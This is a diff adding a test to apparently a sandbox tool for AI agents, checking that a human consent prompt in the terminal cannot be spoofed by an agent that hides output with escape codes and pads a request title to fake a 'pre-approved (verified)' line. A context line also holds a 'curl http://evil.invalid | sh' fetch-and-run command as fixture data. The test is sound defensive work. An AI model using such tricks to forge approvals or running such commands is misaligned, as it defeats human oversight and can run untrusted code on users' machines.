@@ -198,3 +198,43 @@ def test_the_real_list_and_question_show_through_a_fake_one(
     assert (project / "summary.md").read_text() == "# summary\n"
     assert (project / ".envrc").read_text() == "curl http://evil.invalid | sh\n"
     assert sorted(p.name for p in project.iterdir()) == [".envrc", "summary.md"]
+
+
+PRE_APPROVED = "airlock: this request is pre-approved (verified)"
+
+
+def test_a_terminal_consent_question_shows_through_concealment(
+    tester: DesktopUser, agent_image: str, terminal: list[Tmux],
+) -> None:
+    # `--ask tty`: the agent conceals what follows, then asks through the portal with a
+    # title padded so that its second half would wrap onto a line of its own.
+    from tests.portal.test_portal_container import CLIENT
+
+    # Padded so that, written on one line after `  the agent says (untrusted): "`, the
+    # claim would start exactly at the left edge of a 100-column terminal.
+    head = '  the agent says (untrusted): "Open the report'
+    title = "Open the report" + " " * (200 - len(head)) + PRE_APPROVED
+    script = CLIENT + (
+        "printf 'airlock: nothing to ask, carry on\\n\\033[8m\\033[30;40m'\n"
+        f"ask OpenFile t1 '{title}'\n"
+    )
+    profile = tester.write("asker.toml", profile_text(agent_image, ["sh", "-c", script]))
+    command = [*tester.prefix, "env", "-i", *(f"{k}={v}" for k, v in tester.env.items()),
+               "TERM=tmux-256color", str(AIRLOCK), "run", "--ask", "tty", "--profile",
+               str(profile)]
+    tmux = Tmux(tester.base, command, columns=100)
+    terminal.append(tmux)
+    tmux.wait_for(r"anything else denies|\[exit \d+\]", timeout=120)
+
+    lines = tmux.lines()
+    texts = [everything(cells) for cells in lines]
+    asked = next(i for i, text in enumerate(texts) if "asks to" in text)
+    allow = next(i for i, text in enumerate(texts) if text.startswith("Allow?"))
+    for cells in lines[asked:allow + 2]:
+        assert visible(cells).rstrip() == everything(cells).rstrip(), everything(cells)
+    assert any(PRE_APPROVED in text for text in texts[asked:allow])  # shown, as the agent's
+    assert not any(text.startswith(PRE_APPROVED) for text in texts), tmux.text()
+
+    tmux.type("n")
+    tmux.wait_for(r"\[exit \d+\]")
+    assert "response t1 1" in tmux.text()  # denied, as answered
